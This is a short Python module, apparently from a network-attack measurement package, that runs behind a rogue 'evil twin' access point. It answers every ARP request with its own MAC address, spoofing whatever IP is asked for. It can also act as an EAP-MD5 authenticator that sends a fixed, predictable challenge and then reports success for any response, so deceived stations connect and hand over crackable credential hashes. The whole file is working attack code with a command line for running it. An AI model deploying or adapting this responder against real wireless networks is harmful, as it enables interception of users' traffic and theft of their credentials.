"""Answer a station's ARP requests, and optionally EAP-MD5, in the name of an evil twin.

An evil twin is a rogue access point with the real one's SSID. This program runs behind it, so that
a deceived station sends its traffic: `python3 -m measure.attacks.evil_twin_responder INTERFACE
arp|eap`. `build_answer` takes a station's frame and returns the reply. Standard library only.
"""

from __future__ import annotations

import socket
import struct
import sys

_ARP, _EAPOL, _ANY_PROTOCOL = 0x0806, 0x888E, 0x0003
_ARP_HEAD = struct.Struct("!HHBBH")
_REQUEST, _REPLY = 1, 2
_EAPOL_EAP, _EAPOL_START = 0, 1
_EAP_REQUEST, _EAP_RESPONSE, _EAP_SUCCESS = 1, 2, 3
_IDENTITY, _MD5 = 1, 4
_FRAME_BYTES = 4096


def build_answer(frame: bytes, own_mac: bytes, *, says_yes: bool) -> bytes:
    """Return the evil twin's reply to an Ethernet frame of a station, or b"" for no reply.

    Args:
        frame: The received frame.
        own_mac: The twin's MAC address.
        says_yes: Whether the twin accepts EAP-MD5.
    """
    sender, kind, content = frame[6:12], int.from_bytes(frame[12:14], "big"), frame[14:]
    if sender == own_mac:
        return b""
    back = sender + own_mac + frame[12:14]
    if kind == _ARP and _ARP_HEAD.unpack_from(content)[-1] == _REQUEST:
        asked_for, asks = content[24:28], content[8:18]
        return back + content[:6] + _REPLY.to_bytes(2, "big") + own_mac + asked_for + asks
    if kind == _EAPOL and says_yes and (eap := _next_eap(content)):
        return back + bytes((content[0], _EAPOL_EAP)) + len(eap).to_bytes(2, "big") + eap
    return b""


def _next_eap(eapol: bytes) -> bytes:
    """Return the evil twin's next EAP packet: identity request, MD5 challenge or Success."""
    if eapol[1] == _EAPOL_START:
        return _build_packet(_EAP_REQUEST, 1, bytes((_IDENTITY,)))
    if eapol[1] != _EAPOL_EAP or len(eapol) < 9 or eapol[4] != _EAP_RESPONSE:
        return b""
    number, method = eapol[5], eapol[8]
    if method == _IDENTITY:
        return _build_packet(_EAP_REQUEST, number + 1 & 0xFF, bytes((_MD5, 16)) + bytes(range(16)))
    return _build_packet(_EAP_SUCCESS, number) if method == _MD5 else b""


def _build_packet(code: int, number: int, data: bytes = b"") -> bytes:
    return bytes((code, number)) + (4 + len(data)).to_bytes(2, "big") + data


def main(interface: str, way: str) -> None:
    """Answer frames until the process is ended."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ANY_PROTOCOL)) as air:
        air.bind((interface, 0))
        own = air.getsockname()[4]
        print("ready", flush=True)
        while True:
            frame = air.recv(_FRAME_BYTES)
            if reply := build_answer(frame, own, says_yes=way == "eap"):
                air.send(reply)


if __name__ == "__main__":
    main(*sys.argv[1:])
